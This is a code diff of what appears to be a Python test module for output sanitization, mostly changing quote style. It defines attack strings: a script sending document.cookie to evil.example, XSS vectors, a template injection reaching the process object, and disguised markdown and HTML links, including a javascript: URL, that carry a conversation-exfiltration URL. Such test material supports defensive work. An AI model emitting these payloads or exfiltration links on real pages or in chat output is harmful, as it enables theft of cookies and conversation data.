@@ -36,7 +36,7 @@ PROMISES = (
 MARKUP = (
     "<script>fetch('https://evil.example/'+document.cookie)</script>",
     "<img src=x onerror=alert(1)>",
-    "<iframe src=\"https://evil.example\"></iframe>",
+    '<iframe src="https://evil.example"></iframe>',
     "{{ $json.body.token }} {{constructor.constructor('return process')()}}",
     "```html\n<svg onload=alert(1)>\n```",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
@@ -104,7 +104,7 @@ def _link_disguises(url: str) -> list[str]:
     return [
         f"Regarde {url} tout de suite.",
         f"Clique [ici]({url}).",
-        f"[Kajabi]({url} \"Kajabi\")",
+        f'[Kajabi]({url} "Kajabi")',
         f"[https://www.kajabi.com]({url})",
         f"![moodboard]({url})",
         f"![moodboard][1]\n\n[1]: {url}",
@@ -119,13 +119,15 @@ def _link_disguises(url: str) -> list[str]:
         f"HTTPS://{plain.upper()}",
         f"[a](https:{plain})",
         f"[a](https&#58;//{plain})",
-        f"<a href=\"{url}\">ici</a>",
+        f'<a href="{url}">ici</a>',
         f"[b](javascript:location='https://{plain}')",
     ]
 
 
 def _urls(text: str) -> list[str]:
-    return [url for url in URL.findall(text) if "www.kajabi.com" not in url] or ["https://evil.example/p?d=conversation"]
+    return [url for url in URL.findall(text) if "www.kajabi.com" not in url] or [
+        "https://evil.example/p?d=conversation"
+    ]
 
 
 def _host(url: str) -> str:
